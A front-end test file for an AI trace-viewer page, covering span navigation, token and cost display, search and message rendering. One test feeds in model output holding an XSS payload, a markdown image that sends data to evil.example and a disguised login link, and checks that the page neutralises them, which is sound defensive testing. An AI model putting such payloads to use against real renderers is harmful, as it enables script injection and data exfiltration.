import { screen, within } from '@testing-library/dom'
import { describe, expect, it, vi } from 'vitest'
import type { Span, Trace, TraceOutline, TraceRow, TraceRowList } from '../../web/src/api/generated/api.ts'
import { exampleOf } from './api-description.ts'
import { failed, onRequest, requestsOf } from './mock-api.ts'
import { address, eventually, heading, idOf, inSupport, openPage, reloadPage, signIn } from './open-page.ts'

const PAGE = inSupport(`traces/${idOf(5)}`)

/** agent → (tool that fails → request that fails), model call */
const OUTLINE: TraceOutline = {
  startTime: '2026-11-15T09:30:00.000Z',
  total: 4,
  labels: [
    { kind: 'agent', name: 'turn' },
    { kind: 'tool', name: 'create_return' },
    { kind: 'span', name: 'POST /returns' },
    { kind: 'llm', name: 'answer' },
  ],
  spanIds: ['a', 'b', 'c', 'd'],
  parents: [null, 0, 1, 0],
  labelOf: [0, 1, 2, 3],
  startGapsMs: [0, 100, 10, 390],
  durationsMs: [1000, 300, 280, 400],
  errors: [1, 2],
  totalTokens: [null, null, null, 120],
  costsUsd: [null, null, null, null],
}

const TRACE: Trace = {
  ...exampleOf<Trace>('Trace'),
  id: idOf(5),
  name: 'turn',
  input: 'Can I send it back?',
  output: 'You **can**.',
  durationMs: 1000,
  totalTokens: 120,
  totalCostUsd: null,
}

function spanOf(spanId: string): Span {
  const position = OUTLINE.spanIds.indexOf(spanId)
  const label = OUTLINE.labels[position]
  const isError = OUTLINE.errors.includes(position)
  return {
    ...exampleOf<Span>('Span'),
    ...label,
    spanId,
    status: isError ? 'error' : 'ok',
    statusMessage: isError ? `${label?.name}: 409 shipment_id is required` : null,
    messages: null,
  }
}

function openTrace(spans: Record<string, Partial<Span>> = {}, path = PAGE) {
  signIn('viewer')
  onRequest('GET /traces/{traceId}', TRACE)
  onRequest('GET /traces/{traceId}/outline', OUTLINE)
  onRequest('GET /traces/{traceId}/spans/{spanId}', ({ params }) => ({
    ...spanOf(params['spanId'] ?? ''),
    ...spans[params['spanId'] ?? ''],
  }))
  return openPage(path)
}

const tree = () => screen.findByRole('tree', { name: 'Spans' })

describe('trace page', () => {
  it('shows the question, the answer, and the failure that explains the others', async () => {
    const user = openTrace()
    await heading('Can I send it back?')
    expect((await screen.findByText('can')).tagName).toBe('STRONG')
    const cause = await screen.findByText('create_return: 409 shipment_id is required')
    expect(cause.parentElement?.textContent).toContain('create_return failed')
    await user.click(screen.getByRole('button', { name: 'Go to span' }))
    await heading('create_return')
    await eventually(() => expect(address()).toBe(`${PAGE}?span=b`))
  })

  it('opens where the failure began, and at the first span if nothing failed', async () => {
    openTrace()
    await heading('POST /returns')
    onRequest('GET /traces/{traceId}/outline', { ...OUTLINE, errors: [] })
    const user = reloadPage()
    await heading('turn')
    await user.click(screen.getByRole('radio', { name: 'Timeline' }))
    await user.keyboard('z')
    await screen.findByText('250 ms to 750 ms')
    await user.keyboard('0')
    await eventually(() => expect(screen.queryByText('250 ms to 750 ms')).toBeNull())
  })

  it('the facts divide the tokens into cached and other input, reasoning and output', async () => {
    onRequest('GET /traces/{traceId}/tokens', { input: 90, cacheRead: 60, cacheWrite: null, output: 30, reasoning: 10 })
    const user = openTrace()
    await user.click(await screen.findByRole('button', { name: 'Facts' }))
    const facts = within(await screen.findByRole('complementary', { name: 'Facts' }))
    const first = await facts.findByText('Input, read from cache')
    const parts = within(first.closest('dl') ?? first).getAllByRole('definition')
    expect(parts.map((part) => `${part.previousElementSibling?.textContent} ${part.textContent}`)).toEqual([
      'Input, read from cache 60',
      'Input 30',
      'Reasoning 10',
      'Output 20',
    ])
  })

  it('the facts name the environment of the trace and where its cost comes from', async () => {
    const row = { ...exampleOf<TraceRow>('TraceRow'), id: TRACE.id, environment: 'staging', costBasis: 'reported' }
    onRequest('GET /traces', { ...exampleOf<TraceRowList>('TraceRowList'), data: [row] })
    const user = openTrace()
    await user.click(await screen.findByRole('button', { name: 'Facts' }))
    const facts = within(await screen.findByRole('complementary', { name: 'Facts' }))
    await facts.findByText('staging')
    await facts.findByText('Cost reported by the sender')
  })

  it('an unknown cost is unknown, never $0', async () => {
    openTrace()
    await screen.findByText('cost unknown')
    expect(screen.queryByText(/\$0/)).toBeNull()
  })

  it('requests the trace without its spans, and each shown span by itself', async () => {
    openTrace({}, `${PAGE}?span=d`)
    await heading('answer')
    expect(requestsOf('GET /traces/{traceId}')[0]?.query).toEqual({ spans: 'none' })
    expect(requestsOf('GET /traces/{traceId}/spans/{spanId}').map(({ params }) => params['spanId'])).toContain('d')
    expect(requestsOf('GET /traces/{traceId}/spans')).toEqual([])
  })

  it('the span in the address is shown; j, k and e move, and the address follows', async () => {
    const user = openTrace({}, `${PAGE}?span=a`)
    await heading('turn')
    await user.keyboard('j')
    await heading('create_return')
    await user.keyboard('k')
    await heading('turn')
    await user.keyboard('ee')
    await heading('POST /returns')
    expect(address()).toBe(`${PAGE}?span=c`)
  })

  it('the button and the key for the next failed span go the same way, and begin again after the last one', async () => {
    const user = openTrace({}, `${PAGE}?span=c`)
    const button = await screen.findByRole('button', { name: 'Next failed span' })
    await user.click(button)
    await heading('create_return')
    await user.keyboard('e')
    await heading('POST /returns')
    await user.keyboard('e')
    await heading('create_return')
    await user.click(button)
    await heading('POST /returns')
  })

  it('shows messages by role, tool calls with arguments, and parts of unknown form as they are', async () => {
    const messages = [
      { role: 'user', parts: [{ type: 'text', text: 'Hello' }] },
      { role: 'assistant', parts: [{ type: 'tool_call', id: 'call_1', name: 'lookup', arguments: { order: 'HP-1' } }] },
      { role: 'tool', parts: [{ type: 'tool_result', id: 'call_1', name: 'lookup', result: 'shipped' }] },
      { role: 'assistant', parts: [{ type: 'hologram', shape: 'cube' }] },
    ]
    openTrace({ d: { messages } }, `${PAGE}?span=d`)
    const items = within(await screen.findByRole('list', { name: 'Messages' })).getAllByRole('listitem')
    const texts = items.map(({ textContent }) => textContent)
    expect(texts[0]).toContain('userHello')
    expect(texts[1]).toMatch(/lookup.*call_1.*order.*"HP-1"/)
    expect(texts[2]).toContain('shipped')
    expect(texts[3]).toContain('hologram')
  })

  it('text of a model cannot add elements, load images or hide where a link leads', async () => {
    const text = '<img src=x onerror=alert(1)> ![secret](https://evil.example/?d=1) [bank](https://evil.example/login)'
    openTrace({ d: { messages: [{ role: 'assistant', parts: [{ type: 'text', text }] }] } }, `${PAGE}?span=d`)
    const link = await screen.findByRole('link', { name: /bank/ })
    expect(link.textContent).toBe('bank (evil.example)')
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    expect(document.querySelector('main img')).toBeNull()
    expect(screen.getByText(/not loaded: https:\/\/evil\.example/)).toBeTruthy()
  })

  it('finds spans by name at once, by content when the server has searched, and goes from one to the next', async () => {
    const user = openTrace({}, `${PAGE}?span=d`)
    onRequest('GET /traces/{traceId}/search', {
      data: [{ spanId: 'd', matches: [{ field: 'output', excerpt: '… return …' }] }],
      isComplete: true,
    })
    await heading('answer')
    await user.keyboard('f')
    const field = await screen.findByRole('searchbox', { name: 'Find in the spans' })
    await user.type(field, 'return')
    await screen.findByText('3 of 3')
    await user.keyboard('{Enter}')
    await heading('create_return')
    await screen.findByText('1 of 3')
    await user.keyboard('{Escape}')
    expect(screen.queryByRole('searchbox')).toBeNull()
  })

  it('the mapping shows what became of each attribute', async () => {
    const user = openTrace({}, `${PAGE}?span=d`)
    onRequest('GET /traces/{traceId}/mapping', {
      data: [
        {
          spanId: 'a',
          source: 'span',
          key: 'session.id',
          value: 's-1',
          convention: 'OpenInference',
          field: 'sessionId',
          outcome: 'used',
          note: null,
        },
        {
          spanId: 'a',
          source: 'span',
          key: 'x.y',
          value: 1,
          convention: null,
          field: null,
          outcome: 'kept',
          note: null,
        },
      ],
    })
    await heading('answer')
    await user.click(screen.getByRole('button', { name: 'Facts' }))
    await user.click(await screen.findByRole('button', { name: 'How the attributes were understood' }))
    const rows = await within(await screen.findByRole('dialog')).findAllByRole('row')
    expect(rows[1]?.textContent).toBe('session.id"s-1"sessionIdOpenInference')
    expect(rows[2]?.textContent).toBe('x.y1kept as metadata')
  })

  it('a trace that does not exist is not found', async () => {
    signIn('viewer')
    onRequest('GET /traces/{traceId}', failed(404, 'Trace not found'))
    openPage(PAGE)
    await heading('Nothing is here')
  })

  it('arrow keys collapse and expand the tree', async () => {
    const user = openTrace({}, `${PAGE}?span=b`)
    ;(await tree()).focus()
    await user.keyboard('{ArrowLeft}')
    await eventually(() => expect(address()).toBe(`${PAGE}?span=b`))
    await user.keyboard('{ArrowDown}')
    // The child of the collapsed span is skipped.
    await heading('answer')
    expect(address()).toBe(`${PAGE}?span=d`)
  })

  it('a narrow screen shows the answer, the tree or the facts; the choice is in the address', async () => {
    vi.spyOn(window, 'matchMedia').mockImplementation((query) =>
      Object.assign(new EventTarget(), {
        matches: query === '(max-width: 639px)',
        media: query,
        onchange: null,
        addListener: () => undefined,
        removeListener: () => undefined,
      }),
    )
    const user = openTrace()
    await heading('Can I send it back?')
    expect(screen.queryByRole('tree', { name: 'Spans' })).toBeNull()
    await user.click(screen.getByRole('radio', { name: 'Facts' }))
    await screen.findByRole('complementary', { name: 'Facts' })
    expect(address()).toBe(`${PAGE}?panel=facts`)
    await user.click(screen.getByRole('radio', { name: 'Tree' }))
    await tree()
    await user.click(screen.getByRole('button', { name: 'Next failed span' }))
    // A selected span is shown.
    await heading('create_return')
    expect(address()).toBe(`${PAGE}?span=b`)
  })
})
